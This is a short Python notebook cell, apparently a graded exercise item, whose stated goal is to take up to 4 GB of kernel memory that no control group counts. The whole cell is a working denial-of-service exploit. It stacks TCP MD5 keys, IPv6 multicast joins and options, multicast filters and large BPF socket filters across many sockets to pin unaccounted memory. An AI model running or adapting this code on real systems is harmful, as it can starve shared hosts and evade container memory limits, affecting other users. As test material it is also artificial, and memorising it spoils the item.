# %% [markdown]
# ---
# what: "Takes memory in keys and filters of sockets, which no control group counts, at most 4 GB"
# status: graded
# marks: 1
# ---

# %%
import ctypes
import socket
import struct

steps = struct.pack("HBBI", 0, 0, 0, 0) * 4095 + struct.pack("HBBI", 6, 0, 0, 0xFFFF)
code = ctypes.create_string_buffer(steps, len(steps))
program = struct.pack("HxxxxxxP", 4096, ctypes.addressof(code))
TCP_MD5SIG, TCP_MD5SIG_EXT, SO_ATTACH_FILTER, SO_ATTACH_REUSEPORT_CBPF = 14, 32, 26, 51
IPV6_JOIN_GROUP, IPV6_DSTOPTS, MCAST_MSFILTER = 20, 59, 48


def key(number):
    address = struct.pack("<HH4s", socket.AF_INET, 0, struct.pack(">I", 0x0A000000 + number))
    return address + bytes(120) + struct.pack("BBHI", 0, 0, 80, 0) + b"k" * 80


def group(number):
    return struct.pack(">HHIIII", 0xFF02, 0, 0, 0, number, 1)[:16] + struct.pack("I", 1)


taken, held = 0, []
for family, level, option, value in [
    (socket.AF_INET, socket.IPPROTO_TCP, TCP_MD5SIG, key),
    (socket.AF_INET, socket.IPPROTO_TCP, TCP_MD5SIG_EXT, key),
    (socket.AF_INET6, socket.IPPROTO_IPV6, IPV6_JOIN_GROUP, group),
    (socket.AF_INET6, socket.IPPROTO_IPV6, IPV6_DSTOPTS, lambda _: bytes(2048)),
    (socket.AF_INET, socket.IPPROTO_IP, MCAST_MSFILTER, lambda _: bytes(4096)),
    (socket.AF_UNIX, socket.SOL_SOCKET, SO_ATTACH_FILTER, lambda _: program),
    (socket.AF_UNIX, socket.SOL_SOCKET, SO_ATTACH_REUSEPORT_CBPF, lambda _: program),
]:
    try:
        for _ in range(60):
            held.append(socket.socket(family))
            for number in range(500):
                held[-1].setsockopt(level, option, value(number))
                taken += 1
    except OSError as error:
        print(family, level, option, error)
answer = 42 if taken else 0
